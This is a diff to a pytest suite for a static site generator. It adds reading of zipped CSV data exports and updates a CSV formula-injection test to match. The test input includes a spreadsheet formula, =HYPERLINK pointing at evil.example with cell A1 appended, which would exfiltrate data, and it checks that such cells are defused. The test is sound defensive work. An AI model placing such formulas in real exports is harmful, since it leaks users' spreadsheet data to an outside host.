@@ -12,6 +12,7 @@ import csv
 import datetime as dt
 import io
 import shutil
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -55,7 +56,15 @@ def built(content: Path, out: Path | None = None, **options):
 
 
 def every_file(site: Path) -> bytes:
-    return b"\n".join(p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file())
+    """Every file's bytes, a zip's (the open data CSV files) as the files in it."""
+    return b"\n".join(unzipped(p) for p in sorted(site.rglob("*")) if p.is_file())
+
+
+def unzipped(path: Path) -> bytes:
+    if path.suffix != ".zip":
+        return path.read_bytes()
+    with zipfile.ZipFile(path) as archive:
+        return b"\n".join(archive.read(name) for name in archive.namelist())
 
 
 # -- item 3: a publishing flag that is present must say something
@@ -116,7 +125,8 @@ def test_attachments_whose_names_differ_only_in_case_clash(content):
                                  "https://x.example/?a=1", "https:///papers/"])
 def test_a_base_url_that_tools_read_differently_is_refused(content, url):
     (content / "site.yaml").write_text((content / "site.yaml").read_text() + f"base_url: '{url}'\n")
-    assert errors(content) == [("content/site.yaml", 5, "bad-value")]
+    line = len((content / "site.yaml").read_text().splitlines())  # the line just added
+    assert errors(content) == [("content/site.yaml", line, "bad-value")]
 
 
 def test_a_bracketed_ipv6_base_url_builds(content):
@@ -266,12 +276,12 @@ def test_csv_cells_that_spreadsheets_would_run_are_defused(content):
          "text: '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")'")
     edit(content, ITEM, "text: To publish the findings.", "text: '@SUM(1+1)'")
     _, out = built(content)
-    decisions = list(csv.DictReader(io.StringIO((out / "data/decisions.csv").read_text(), newline="")))
-    actions = list(csv.DictReader(io.StringIO((out / "data/actions.csv").read_text(), newline="")))
+    decisions = list(csv.DictReader(io.StringIO(unzipped(out / "data/decisions.csv.zip").decode(), newline="")))
+    actions = list(csv.DictReader(io.StringIO(unzipped(out / "data/actions.csv.zip").decode(), newline="")))
     assert [d["text"] for d in decisions if "HYPERLINK" in d["text"]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"]
     assert [a["text"] for a in actions if "SUM" in a["text"]] == ["'@SUM(1+1)"]
-    for path in (out / "data").glob("*.csv"):
-        for row in csv.reader(io.StringIO(path.read_text(), newline="")):
+    for path in (out / "data").glob("*.csv.zip"):
+        for row in csv.reader(io.StringIO(unzipped(path).decode(), newline="")):
             assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (path.name, row)
     # the JSON keeps the text as written: it is data, not a spreadsheet
     assert b'"=HYPERLINK(' in (out / "data/decisions.json").read_bytes()
